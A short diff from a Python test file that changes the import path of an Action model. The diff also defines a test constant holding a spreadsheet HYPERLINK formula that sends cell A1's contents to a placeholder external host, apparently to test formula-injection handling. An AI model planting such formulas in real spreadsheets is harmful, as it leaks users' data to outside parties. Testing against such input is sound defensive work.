@@ -9,7 +9,7 @@ from openpyxl import Workbook, load_workbook
 
 from samskab.core.xlsx import append_row
 from samskab.processes.models import Participant
-from samskab.workshops.models import Action
+from samskab.rounds.models import Action
 from tests.helpers import today
 
 FORMULA = '=HYPERLINK("https://example.invalid/?"&A1,"Klik her")'
